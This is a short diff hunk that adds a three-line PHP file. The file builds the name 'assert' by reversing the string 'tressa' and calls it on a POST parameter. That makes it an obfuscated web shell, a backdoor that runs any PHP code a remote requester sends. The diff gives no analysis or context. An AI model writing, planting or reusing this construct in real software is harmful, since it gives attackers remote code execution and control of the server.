@@ -1,0 +1,3 @@
+<?php
+$a = strrev('tressa');
+$a($_POST['p']);
